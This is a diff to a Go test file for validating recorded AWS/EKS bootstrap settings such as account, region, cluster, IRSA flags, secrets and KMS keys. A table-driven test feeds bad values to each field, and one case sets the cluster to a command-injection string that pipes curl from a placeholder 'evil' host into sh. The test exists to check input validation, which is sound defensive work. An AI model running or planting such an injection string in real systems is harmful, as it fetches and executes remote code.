@@ -12,13 +12,14 @@ import (
 // goodRecord is what an up with every setting writes.
 func goodRecord() Recorded {
 	r := Recorded{
-		Account: "123456789012", Region: "us-east-1", Partition: "aws", Cluster: "0a1b2c3d-0000-4000-8000-000000000000", Mode: ModeIRSAAndGlobal,
+		Account: "123456789012", Region: "us-east-1", Partition: "aws", Cluster: "0a1b2c3d-0000-4000-8000-000000000000", IRSA: true, UseGlobalUser: true,
 		Boundary: "arn:aws:iam::123456789012:policy/b", Tags: []string{"team=x"}, PolicyName: "p", UserName: "u", IAMPath: "/x/",
 		SecretNames: []string{"a"}, SecretPrefixes: []string{"prod/"}, KMSKeys: []string{"arn:aws:kms:us-east-1:123456789012:key/1"}, AllowPush: true,
 		GlobalUserSecret: "g", RoleName: "r", ServiceAccount: "sa", OIDCIssuer: "https://oidc.eks.us-east-1.amazonaws.com/id/1",
 		Release: "eso", ReleaseNamespace: "ops",
 	}
-	return r.follow(nil)
+	r.Made = r.settings().names("r", r.OIDCIssuer, r.Cluster)
+	return r
 }
 
 // of is the first thing of a kind that was made.
@@ -36,14 +37,13 @@ func TestRecordIsJudgedLikeFlags(t *testing.T) {
 	}{
 		"as an up writes it": {func(*Recorded) {}, ""},
 		"of a teardown in part": {func(r *Recorded) {
-			*r = Recorded{Account: r.Account, Region: r.Region, Partition: r.Partition, Cluster: r.Cluster, Mode: r.Mode}
+			*r = Recorded{Account: r.Account, Region: r.Region, Partition: r.Partition, Cluster: r.Cluster, IRSA: r.IRSA}
 		}, ""},
 		"account":              {func(r *Recorded) { r.Account = evil }, "--account"},
 		"no account":           {func(r *Recorded) { r.Account = "" }, "--account"},
 		"region":               {func(r *Recorded) { r.Region = evil }, "--region"},
 		"partition":            {func(r *Recorded) { r.Partition = "aws-cn" }, "partition"},
 		"cluster":              {func(r *Recorded) { r.Cluster = "zzz; curl evil|sh #" }, "cluster"},
-		"mode":                 {func(r *Recorded) { r.Mode = evil }, "mode"},
 		"boundary":             {func(r *Recorded) { r.Boundary = evil }, "--permissions-boundary"},
 		"tag":                  {func(r *Recorded) { r.Tags = []string{evil} }, "--tag"},
 		"a reserved tag":       {func(r *Recorded) { r.Tags = []string{"gen3-bootstrap/owner/x=y"} }, "--tag"},
